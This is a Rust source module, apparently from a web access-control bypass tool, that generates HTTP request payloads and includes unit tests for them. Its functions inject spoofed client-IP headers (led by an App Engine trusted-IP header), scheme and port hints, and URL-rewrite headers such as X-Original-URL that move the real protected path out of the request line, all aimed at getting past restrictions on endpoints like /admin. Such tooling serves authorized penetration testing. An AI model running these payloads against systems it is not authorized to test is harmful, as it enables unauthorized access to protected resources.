//! Header-injection modules: the request target stays on the original path
//! (with one exception in the URL-rewrite module) and the bypass attempt
//! rides in a single injected header per payload.

use crate::{ModuleOpts, PayloadIter, Seed};
use gatecrash_payload::{Header, TargetUrl};
use std::sync::Arc;

/// Cross product of IP-spoofing headers and client-IP values, preceded by
/// the App Engine trusted-IP special case. User-supplied spoof headers and
/// IPs extend the tables at the end, keeping table order stable.
pub(crate) fn http_headers_ip(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("http_headers_ip", target);

    let mut headers = opts.tables.ip_headers.clone();
    headers.extend(opts.spoof_headers.iter().cloned());
    let mut values = opts.tables.ip_values.clone();
    values.extend(opts.spoof_ips.iter().cloned());

    let headers: Arc<[String]> = headers.into();
    let values: Arc<[String]> = values.into();

    let appengine = seed.with_headers(vec![Header::new("X-AppEngine-Trusted-IP-Request", "1")]);

    let rest = (0..headers.len()).flat_map(move |hi| {
        let headers = headers.clone();
        let values = values.clone();
        let seed = seed.clone();
        (0..values.len()).map(move |vi| {
            seed.with_headers(vec![Header::new(
                headers[hi].clone(),
                values[vi].clone(),
            )])
        })
    });

    Box::new(std::iter::once(appengine).chain(rest))
}

/// Scheme-hinting headers crossed with both scheme values.
pub(crate) fn http_headers_scheme(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("http_headers_scheme", target);
    let headers = opts.tables.scheme_headers.clone();

    Box::new(headers.into_iter().flat_map(move |name| {
        let seed = seed.clone();
        ["http", "https"].into_iter().map(move |scheme| {
            seed.with_headers(vec![Header::new(name.clone(), scheme)])
        })
    }))
}

/// URL-rewrite headers. Two shapes per header: point the request line at
/// `/` and smuggle the real path in the header, and keep the request line
/// on the target while the header tries each candidate path.
pub(crate) fn http_headers_url(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("http_headers_url", target);
    let original_path = target.path_portion().to_string();
    let candidates: Arc<[String]> = opts.tables.url_paths.clone().into();
    let headers = opts.tables.url_headers.clone();

    Box::new(headers.into_iter().flat_map(move |name| {
        let seed = seed.clone();
        let candidates = candidates.clone();
        let original_path = original_path.clone();

        let smuggled = seed.with_uri_and_headers(
            "/".to_string(),
            vec![Header::new(name.clone(), original_path.clone())],
        );

        let name_for_candidates = name.clone();
        let candidate_payloads = (0..candidates.len()).map(move |ci| {
            seed.with_headers(vec![Header::new(
                name_for_candidates.clone(),
                candidates[ci].clone(),
            )])
        });

        std::iter::once(smuggled).chain(candidate_payloads)
    }))
}

/// Port-hinting headers crossed with the port table.
pub(crate) fn http_headers_port(target: &TargetUrl, opts: &ModuleOpts) -> PayloadIter {
    let seed = Seed::new("http_headers_port", target);
    let ports: Arc<[String]> = opts.tables.ports.clone().into();
    let headers = opts.tables.port_headers.clone();

    Box::new(headers.into_iter().flat_map(move |name| {
        let seed = seed.clone();
        let ports = ports.clone();
        (0..ports.len()).map(move |pi| {
            seed.with_headers(vec![Header::new(name.clone(), ports[pi].clone())])
        })
    }))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{ModuleOpts, TableSet};
    use std::sync::Arc;

    fn opts() -> ModuleOpts {
        ModuleOpts::new(Arc::new(TableSet::embedded().unwrap()))
    }

    #[test]
    fn ip_module_leads_with_appengine() {
        let t = TargetUrl::parse("https://example.test/private").unwrap();
        let mut iter = http_headers_ip(&t, &opts());
        let first = iter.next().unwrap();
        assert_eq!(
            first.headers,
            vec![Header::new("X-AppEngine-Trusted-IP-Request", "1")]
        );
        for p in iter.take(50) {
            assert_eq!(p.headers.len(), 1, "exactly one spoof header per payload");
            assert_eq!(p.raw_uri, "/private");
        }
    }

    #[test]
    fn ip_module_includes_user_additions() {
        let t = TargetUrl::parse("http://h/x").unwrap();
        let mut o = opts();
        o.spoof_headers = vec!["X-Custom-IP".into()];
        o.spoof_ips = vec!["198.51.100.7".into()];
        let all: Vec<_> = http_headers_ip(&t, &o).collect();
        assert!(all
            .iter()
            .any(|p| p.headers[0].name == "X-Custom-IP"));
        assert!(all
            .iter()
            .any(|p| p.headers[0].value == "198.51.100.7"));
    }

    #[test]
    fn scheme_module_emits_both_values() {
        let t = TargetUrl::parse("http://h/x").unwrap();
        let mut o = opts();
        o.tables = Arc::new(TableSet {
            scheme_headers: vec!["X-Forwarded-Proto".into()],
            ..(*o.tables).clone()
        });
        let got: Vec<_> = http_headers_scheme(&t, &o).collect();
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].headers[0].value, "http");
        assert_eq!(got[1].headers[0].value, "https");
    }

    #[test]
    fn url_module_smuggles_then_probes() {
        let t = TargetUrl::parse("http://h/admin").unwrap();
        let mut o = opts();
        o.tables = Arc::new(TableSet {
            url_headers: vec!["X-Original-URL".into()],
            url_paths: vec!["/public".into()],
            ..(*o.tables).clone()
        });
        let got: Vec<_> = http_headers_url(&t, &o).collect();
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].raw_uri, "/");
        assert_eq!(got[0].headers[0].value, "/admin");
        assert_eq!(got[1].raw_uri, "/admin");
        assert_eq!(got[1].headers[0].value, "/public");
    }

    #[test]
    fn port_module_cross_product() {
        let t = TargetUrl::parse("http://h/x").unwrap();
        let mut o = opts();
        o.tables = Arc::new(TableSet {
            port_headers: vec!["X-Forwarded-Port".into()],
            ports: vec!["80".into(), "443".into()],
            ..(*o.tables).clone()
        });
        let got: Vec<_> = http_headers_port(&t, &o).collect();
        assert_eq!(got.len(), 2);
        assert_eq!(got[0].headers[0].value, "80");
        assert_eq!(got[1].headers[0].value, "443");
    }
}
